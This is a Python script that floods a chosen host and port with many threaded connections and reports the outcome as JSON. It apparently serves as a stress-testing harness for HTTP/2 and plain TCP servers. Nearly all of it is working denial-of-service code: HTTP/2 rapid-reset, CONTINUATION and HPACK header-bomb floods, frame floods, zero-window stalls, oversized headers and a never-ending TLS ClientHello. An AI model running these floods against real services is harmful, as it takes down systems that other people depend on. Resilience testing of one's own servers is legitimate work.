"""Floods a port for some seconds, and prints what became of it, as JSON.

flood.py KIND HOST PORT SECONDS CONNECTIONS: each connection is made again when it is cut. Printed:
{"connections": made, "cut": by the other side, "refused": not made at all, "bytes": sent}.
"""
import json
import socket
import struct
import sys
import threading
import time

import http2
from http2 import frame

GET = http2.block(http2.request_fields())
POST = http2.block(http2.request_fields(method=b"POST", path=b"/v1/completions"))


class Streams:
    def __init__(self):
        self.next = 1

    def take(self):
        number, self.next = self.next, self.next + 2
        return number


def rapid_reset(streams):
    return b"".join(frame(http2.HEADERS, 5, n, GET) + frame(http2.RST_STREAM, 0, n, b"\0\0\0\x08")
                    for n in (streams.take() for _ in range(50)))


def continuation(streams):
    if streams.next == 1:
        streams.take()
        return frame(http2.HEADERS, 1, 1, GET)
    return frame(http2.CONTINUATION, 0, 1, http2.field(b"x", b"y" * 200)) * 50


def empty_continuation(streams):
    if streams.next == 1:
        streams.take()
        return frame(http2.HEADERS, 1, 1, GET)
    return frame(http2.CONTINUATION, 0, 1) * 200


def ping(_):
    return frame(http2.PING, 0, 0, b"12345678") * 200


def settings(_):
    return http2.settings((3, 100), (4, 65535)) * 200


def empty_data(streams):
    if streams.next == 1:
        streams.take()
        return frame(http2.HEADERS, 4, 1, POST)
    return frame(http2.DATA, 0, 1) * 200


def tiny_data(streams):
    return frame(http2.HEADERS, 4, (n := streams.take()), POST) + frame(http2.DATA, 0, n, b"x") * 50


def priority(_):
    return frame(http2.PRIORITY, 0, 99, b"\0\0\0\0\1") * 200


def window_update(_):
    return frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 200


def open_streams(streams):
    return b"".join(frame(http2.HEADERS, 4, streams.take(), POST) for _ in range(50))


def zero_window(streams):
    first = http2.settings((4, 0)) if streams.next == 1 else b""
    return first + b"".join(frame(http2.HEADERS, 5, streams.take(), GET) for _ in range(50))


def header_bomb(streams):
    """A field of 3,900 bytes enters the table once; then one byte each stands for it."""
    first = streams.take()
    bomb = http2.field(b"x", b"y" * 3900, indexed=True)
    blocks = frame(http2.HEADERS, 5, first, GET + bomb + b"\xbe" * 90)
    return blocks + b"".join(frame(http2.HEADERS, 5, streams.take(), GET + b"\xbe" * 90)
                             for _ in range(20))


def unknown_frames(_):
    return frame(0x77, 0, 0, b"") * 500


def closed_streams(streams):
    return frame(http2.HEADERS, 5, (n := streams.take()), GET) + frame(
        http2.WINDOW_UPDATE, 0, n, b"\0\0\0\1") * 40 + frame(http2.RST_STREAM, 0, n, b"\0\0\0\x08") * 40


HTTP2 = {f.__name__: f for f in (
    rapid_reset, continuation, empty_continuation, ping, settings, empty_data, tiny_data, priority,
    window_update, open_streams, zero_window, header_bomb, unknown_frames, closed_streams)}


def big_heads(count):
    if count == 0:
        return b"GET /v1/models HTTP/1.1\r\nHost: origin.shop\r\n"
    return b"".join(b"X-%d-%d: " % (count, i) + b"y" * 500 + b"\r\n" for i in range(20))


def rubbish(_):
    return bytes(range(256)) * 16


def client_hello(count):
    """A ClientHello that is announced and never ends."""
    return b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" if count == 0 else b"\0" * 64


def bad_requests(_):
    return b"GET /props HTTP/1.1\r\nHost: origin.shop\r\n\r\n" * 50


def nothing(_):
    return None  # connect, and go at once


PLAIN = {f.__name__: f for f in (big_heads, rubbish, client_hello, bad_requests, nothing)}


class Flood:
    def __init__(self, kind, host, port, end):
        self.kind, self.host, self.port, self.end = kind, host, port, end
        self.lock = threading.Lock()
        self.seen = {"connections": 0, "cut": 0, "refused": 0, "bytes": 0}

    def count(self, what, by=1):
        with self.lock:
            self.seen[what] += by

    def run(self):
        while time.monotonic() < self.end:
            try:
                sock = socket.create_connection((self.host, self.port), 2)
            except OSError:
                self.count("refused")
                time.sleep(0.05)
                continue
            self.count("connections")
            with sock:
                try:
                    self.one(sock)
                except TimeoutError:
                    self.count("cut")  # nobody takes our bytes any more: as good as cut
                except OSError:
                    self.count("cut")

    def one(self, sock):
        sock.settimeout(2)
        streams, number = Streams(), 0
        if self.kind in HTTP2:
            sock.sendall(http2.PREFACE + http2.settings())
        while time.monotonic() < self.end:
            data = HTTP2[self.kind](streams) if self.kind in HTTP2 else PLAIN[self.kind](number)
            if data is None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                return
            sock.sendall(data)
            self.count("bytes", len(data))
            number += 1
            if streams.next > 1 << 30:
                return
        self.look_back(sock)

    def look_back(self, sock):
        """Whether the other side ended it long ago: it may let us send into the void for a while."""
        end = time.monotonic() + 2
        try:
            while time.monotonic() < end:
                if not sock.recv(65536):
                    self.count("cut")
                    return
        except TimeoutError:
            pass


def main():
    kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    seconds, connections = float(sys.argv[4]), int(sys.argv[5])
    flood = Flood(kind, host, port, time.monotonic() + seconds)
    threads = [threading.Thread(target=flood.run) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(flood.seen))


if __name__ == "__main__":
    main()
